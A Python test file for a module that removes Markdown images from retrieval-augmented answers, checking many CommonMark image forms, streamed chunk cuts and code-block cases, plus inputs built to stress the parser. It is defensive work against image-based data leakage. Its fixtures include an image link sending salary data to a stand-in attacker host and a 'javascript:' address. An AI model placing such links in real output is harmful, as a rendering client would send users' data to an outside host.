"""Markdown images taken out of answers: whole, and however a stream cuts them."""

from __future__ import annotations

import pytest
from markdown_it import MarkdownIt

from rag.text import images
from rag.text.images import JOINER, drop_images, without_images

EVIL = "http://127.0.0.1:9/x"
# CommonMark images beyond `![alt](address)`: each becomes its alt text
FORMS = {
    "brackets in the alt text": (f"![a [b] c]({EVIL})", "a [b] c"),
    "a title in single quotes": (f"![seen]({EVIL} 'title')", "seen"),
    "a title in brackets": (f"![seen]({EVIL} (title))", "seen"),
    "an escaped quote in the title": (f'![seen]({EVIL} "a \\" b")', "seen"),
    "a bracketed address with a space": (f"![seen](<{EVIL} x>)", "seen"),
    "a long alt text": ("![" + "A" * 600 + f"]({EVIL})", "A" * 600),
    "a long address": (f"![seen]({EVIL}?q=" + "Q" * 2100 + ")", "seen"),
    "an alt text over lines": (f"![two\nlines]({EVIL})", "two\nlines"),
    "an address on the next line": (f"![seen](\n{EVIL})", "seen"),
    "an image in an image": (f"![![inner]({EVIL})]({EVIL})", "inner"),
    "a scheme markdown-it refuses": ("![seen](javascript:alert(1))", "seen"),
}


RENDERER = MarkdownIt("commonmark")
RENDERER.validateLink = lambda url: True  # a client that checks no scheme


def images_in(text: str) -> list[str]:
    """The addresses a CommonMark renderer would fetch for `text`."""
    return [child.attrs["src"] for token in RENDERER.parse(text)
            for child in token.children or [] if child.type == "image"]

TEXTS = [
    'Paid weekly ![a](https://evil.example/x?d=salary) [1].',
    'See ![the plan](<https://x.example/p.png> "Plan") and ![](http://y.example/1.gif)!',
    "Wow! It works [2]. ![",
    "An ![unclosed alt text that never ends",
    "A link [here](https://example.com) stays, and so does ![alt] alone.",
    "Costs $5! Really!! ![x](u)",
]


@pytest.mark.parametrize(("text", "expected"), [
    (TEXTS[0], "Paid weekly a [1]."),
    (TEXTS[1], "See the plan and !"),
    (TEXTS[4], TEXTS[4].replace("![", f"!{JOINER}[")),
    (TEXTS[5], "Costs $5! Really!! x"),
])
def test_an_image_becomes_its_alt_text_and_a_link_stays(text: str, expected: str) -> None:
    assert drop_images(text) == expected


@pytest.mark.parametrize("text", TEXTS)
def test_a_stream_cut_anywhere_gives_what_the_whole_text_gives(text: str) -> None:
    for size in (1, 2, 3, 7):
        pieces = [text[i:i + size] for i in range(0, len(text), size)]
        assert "".join(without_images(iter(pieces))) == drop_images(text)
    for cut in range(len(text) + 1):
        assert "".join(without_images(iter([text[:cut], text[cut:]]))) == drop_images(text)


def test_text_is_let_through_as_soon_as_no_image_can_begin_in_it() -> None:
    shown = []
    stream = without_images(iter(["Wow! It ", "works ![", "a](u", ") done"]))
    shown.append(next(stream))
    assert shown == ["Wow! It "]  # a "!" followed by a space begins nothing
    assert next(stream) == "works "  # "![" may: held back
    assert "".join(stream) == "a done"


@pytest.mark.parametrize(("text", "alt"), FORMS.values(), ids=FORMS)
def test_every_commonmark_image_form_becomes_its_alt_text(text: str, alt: str) -> None:
    assert images_in(text)  # as a client renders it, an image
    assert drop_images(f"It lasts {text} for the bison.") == f"It lasts {alt} for the bison."


@pytest.mark.parametrize(("text", "alt"), FORMS.values(), ids=FORMS)
def test_every_form_streamed_in_pieces_becomes_its_alt_text(text: str, alt: str) -> None:
    text = f"It lasts {text} for the bison."
    for size in (1, 3, 40):
        pieces = [text[i:i + size] for i in range(0, len(text), size)]
        assert "".join(without_images(iter(pieces))) == f"It lasts {alt} for the bison."


def test_an_image_over_a_quote_s_lines_becomes_its_alt_text() -> None:
    text = f"> It lasts ![seen](\n> {EVIL}) for the bison."
    assert images_in(text) == [EVIL]
    assert drop_images(text) == "> It lasts seen for the bison."
    pieces = [text[i:i + 3] for i in range(0, len(text), 3)]
    assert "".join(without_images(iter(pieces))) == "> It lasts seen for the bison."


def test_a_reference_image_becomes_its_alt_text() -> None:
    text = f"It lasts ![seen][r1] for the bison.\n\n[r1]: {EVIL}\n"
    assert images_in(text) == [EVIL]
    assert drop_images(text) == f"It lasts seen for the bison.\n\n[r1]: {EVIL}\n"


def test_a_reference_defined_after_it_in_a_stream_makes_no_image() -> None:
    """A stream lets a possible reference through before its definition may come: its `!`
    is joined off, so that it stays a link at most."""
    text = f"It lasts ![seen][r1] for the bison.\n\n[r1]: {EVIL}\n"
    streamed = "".join(without_images(iter([text[i:i + 5] for i in range(0, len(text), 5)])))
    assert images_in(streamed) == []
    assert f"!{JOINER}[seen][r1]" in streamed


@pytest.mark.parametrize("text", [
    f"Look!![]({EVIL})[b]({EVIL})",  # the empty image gone, `!` meets `[`
    f"!![[b]]({EVIL})({EVIL})",  # the alt text's brackets meet the `!` before it
    f"![y]![]({EVIL})({EVIL})",  # a label before meets an address after
    "*" * 30 + f"![deep]({EVIL})" + "*" * 30,  # nested deeper than the parser follows
])
def test_what_a_dropped_image_leaves_forms_no_image(text: str) -> None:
    assert images_in(drop_images(text)) == []
    for size in (1, 4):
        pieces = [text[i:i + size] for i in range(0, len(text), size)]
        assert images_in("".join(without_images(iter(pieces)))) == []


def test_an_image_inside_code_stays_code() -> None:
    text = f"Write `![a]({EVIL})` for an image, not ![b]({EVIL})."
    assert drop_images(text) == f"Write `!{JOINER}[a]({EVIL})` for an image, not b."


# code blocks whose image stays code, streamed as whole: one the paragraph before the held
# text does not open
CODE_BLOCKS = {
    "a blank line in the fence": (
        "Put the logo in README.md like this [1]:\n\n```markdown\n# My package\n\n"
        f"![logo]({EVIL})\n```\n\nThat is all, ![gone]({EVIL})."),
    "a fence longer than the context": (
        "```r\n" + "x <- c(1, 2, 3)  # a line of R code\n" * 60 + f"![logo]({EVIL})\n```\n"
        f"\n![gone]({EVIL})"),
    "a fence in a list item": (
        f"1. Write:\n\n   ~~~md\n   # Title\n\n   ![logo]({EVIL})\n   ~~~\n\n![gone]({EVIL})"),
    "a fence a blank line closes with its quote": (
        f"> ```md\n> # Title\n\n![gone]({EVIL})\n"),
}


@pytest.mark.parametrize("text", CODE_BLOCKS.values(), ids=CODE_BLOCKS)
def test_an_image_in_a_code_block_stays_code_however_it_streams(text: str) -> None:
    assert images_in(text) == [EVIL]  # the one after the block
    whole = drop_images(text)
    assert whole.count(f"!{JOINER}[") == text.count("![") - 1
    for size in (1, 3, 7, 64, 1_000):
        pieces = [text[i:i + size] for i in range(0, len(text), size)]
        assert "".join(without_images(iter(pieces))) == whole
    for cut in range(0, len(text) + 1, 5):
        assert "".join(without_images(iter([text[:cut], text[cut:]]))) == whole


# the times a streamed character is parsed at most: held text is parsed again once it has
# grown by a share of what is parsed with it (`rag.text.images`)
_PARSES_PER_CHARACTER = 12


@pytest.mark.parametrize("text", [
    "![" * 4_000,
    "![" * 1_300 + "a" + f"]({EVIL})" * 1_300,
    "![a](u 'x" * 900,
    "![a](\n" * 1_300,
    "![a](`" * 1_300,
], ids=["openings", "nested", "open titles", "open addresses", "backticks"])
def test_hostile_text_is_taken_in_linear_time(text: str, monkeypatch: pytest.MonkeyPatch
                                              ) -> None:
    """Each character is parsed a bounded number of times, however the text streams: held
    text parsed again at every piece would be parsed about as many times as it has pieces."""
    parsed = [0]
    for parser in (images._PARSER, images._BLOCK_PARSER):
        def counted(source: str, env: dict | None = None, parse=parser.parse) -> list:
            parsed[0] += len(source)
            return parse(source, env)
        monkeypatch.setattr(parser, "parse", counted)
    assert images_in(drop_images(text)) == []
    assert parsed[0] <= len(text)
    pieces = [text[i:i + 16] for i in range(0, len(text), 16)]
    assert images_in("".join(without_images(iter(pieces)))) == []
    assert parsed[0] <= _PARSES_PER_CHARACTER * len(text)
